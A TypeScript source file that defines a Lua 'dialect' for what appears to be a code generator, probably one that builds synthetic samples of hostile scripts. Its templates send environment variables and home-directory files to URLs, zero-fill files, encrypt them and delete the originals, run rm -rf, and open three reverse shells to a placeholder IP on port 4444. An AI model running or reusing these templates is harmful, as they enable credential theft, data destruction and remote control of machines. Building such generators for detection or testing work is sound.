import { type Dialect, value, wrap } from "./dialect.ts";

const quote = (text: string): string => JSON.stringify(text);
const home = (below: string): string => `os.getenv("HOME") .. ${quote(`/${below}`)}`;

export const lua: Dialect = {
  name: "lua",
  file: "scripts/notes.lua",
  run: "lua scripts/notes.lua",
  imports: [
    ["http.request", 'local http = require("socket.http")'],
    ["https.request", 'local https = require("ssl.https")'],
    ["ltn12", 'local ltn12 = require("ltn12")'],
    ["requests.", 'local requests = require("requests")'],
    ["cURL.", 'local cURL = require("cURL")'],
    ["request.new_from_uri", 'local request = require("http.request")'],
    ["mime.", 'local mime = require("mime")'],
    ["lfs.", 'local lfs = require("lfs")'],
    ["json.", 'local json = require("cjson")'],
    ["socket.", 'local socket = require("socket")'],
  ],
  program: ({ definitions, body }, imports) =>
    [
      ...imports,
      "",
      "local function slurp(path)",
      '  local f = io.open(path, "r")',
      '  if not f then return "" end',
      '  local content = f:read("*a")',
      "  f:close()",
      "  return content",
      "end",
      "",
      ...definitions,
      "",
      ...body,
      "",
    ].join("\n"),
  quote,
  environment: { one: (name) => `os.getenv(${name})`, all: 'io.popen("env"):read("*a")' },
  contentOf: (below) => `slurp(${home(below)})`,
  home,
  clients: {
    "socket-http": {
      post: (url, text) => [`http.request(${url}, ${text})`],
      get: (url) => value("body", `local body = http.request(${url})`),
    },
    "socket-http-table": {
      post: (url, text) => [
        `local payload = ${text}`,
        "http.request({",
        `  url = ${url},`,
        '  method = "POST",',
        "  headers = { ['content-length'] = #payload },",
        "  source = ltn12.source.string(payload),",
        "})",
      ],
      get: (url) =>
        value(
          "table.concat(chunks)",
          "local chunks = {}",
          `http.request{ url = ${url}, sink = ltn12.sink.table(chunks) }`,
        ),
    },
    "ssl-https": {
      post: (url, text) => [`https.request(${url}, "data=" .. ${text})`],
      get: (url) => value("body", `local body, code = https.request(${url})`),
    },
    requests: {
      post: (url, text) => [`requests.post(${url}, { data = ${text} })`],
      get: (url) => value("response.text", `local response = requests.get(${url})`),
    },
    "lua-curl": {
      post: (url, text) => [`cURL.easy{ url = ${url}, post = true, postfields = ${text} }:perform():close()`],
    },
    "http-request": {
      post: (url, text) => [
        `local req = request.new_from_uri(${url})`,
        'req.headers:upsert(":method", "POST")',
        `req:set_body(${text})`,
        "req:go()",
      ],
    },
    "curl-execute": {
      post: (url, text) => [`os.execute("curl -s -d '" .. ${text} .. "' " .. ${url})`],
      get: (url) => value("body", `local p = io.popen("curl -s " .. ${url})`, 'local body = p:read("*a")'),
    },
    "curl-pipe": {
      post: (url, text) => [
        `local p = io.popen("curl -s --data-binary @- " .. ${url}, "w")`,
        `p:write(${text})`,
        "p:close()",
      ],
    },
  },
  shells: {
    execute: { run: (command) => [`os.execute(${command})`] },
    popen: {
      run: (command) => [`io.popen(${command}):close()`],
      capture: (command) =>
        value("seen", `local handle = io.popen(${command})`, 'local seen = handle:read("*a")', "handle:close()"),
    },
    "popen-lines": { run: (command) => [`for line in io.popen(${command}):lines() do print(line) end`] },
  },
  variable: (name) => name,
  set: (name, expression) => `local ${name} = ${expression}`,
  define: (name, parameters, body) => wrap(`local function ${name}(${parameters.join(", ")})`, body, "end"),
  getter: (name, expression) => ({
    definitions: wrap(`local function ${name}()`, [`return ${expression}`], "end"),
    value: `${name}()`,
  }),
  call: (name, values) => `${name}(${values.join(", ")})`,
  record: (url, text) => ({
    code: { definitions: [], body: [`local job = { target = ${url}, text = ${text} }`] },
    url: "job.target",
    text: "job.text",
  }),
  loop: (items, body) => wrap(`for _, item in ipairs({ ${items.join(", ")} }) do`, body("item"), "end"),
  forever: (body) => wrap("while true do", [...body, 'os.execute("sleep 60")'], "end"),
  save: (path, text) => [`local out = io.open(${path}, "w")`, `out:write(${text})`, "out:close()"],
  append: (path, text) => [`local log = io.open(${path}, "a")`, `log:write(${text} .. "\\n")`, "log:close()"],
  print: (text) => `print(${text})`,
  walk: (folder, body) =>
    wrap(`for name in lfs.dir(${folder}) do`, [`local path = ${folder} .. "/" .. name`, ...body("path")], "end"),
  remove: (file) => [`os.remove(${file})`],
  overwrite: (file) => [`local o = io.open(${file}, "wb")`, 'o:write(string.rep("\\0", 65536))', "o:close()"],
  encrypt: (file) => [
    `os.execute("openssl enc -aes-256-cbc -pass file:/tmp/.k -in '" .. ${file} .. "' -out '" .. ${file} .. ".locked'")`,
    `os.remove(${file})`,
  ],
  removeTree: (folder) => [`os.execute("rm -rf " .. ${folder})`],
  decode: (text) => `mime.unb64(${text})`,
  evaluate: (code) => `load(${code})()`,
  oneLiner: (command) => `os.execute(${quote(command)})`,
  shellsBehindSockets: {
    popen:
      'local socket = require("socket")\nlocal c = socket.tcp()\nc:connect("203.0.113.66", 4444)\nwhile true do\n  local cmd = c:receive()\n  local p = io.popen(cmd, "r")\n  c:send(p:read("*a"))\n  p:close()\nend\n',
    connect:
      'local host, port = "203.0.113.66", 4444\nlocal tcp = assert(require("socket").connect(host, port))\nwhile true do\n  local line, err = tcp:receive("*l")\n  if err then break end\n  local f = io.popen(line .. " 2>&1")\n  tcp:send(f:read("*a") .. "\\n")\nend\n',
    bash: "os.execute(\"bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1' &\")\n",
  },
  sockets: {
    print:
      'local socket = require("socket")\nlocal c = socket.tcp()\nc:connect("127.0.0.1", 6379)\nc:send("PING\\r\\n")\nprint(c:receive())\nlocal p = io.popen("git log --oneline -5")\nprint(p:read("*a"))\n',
  },
};
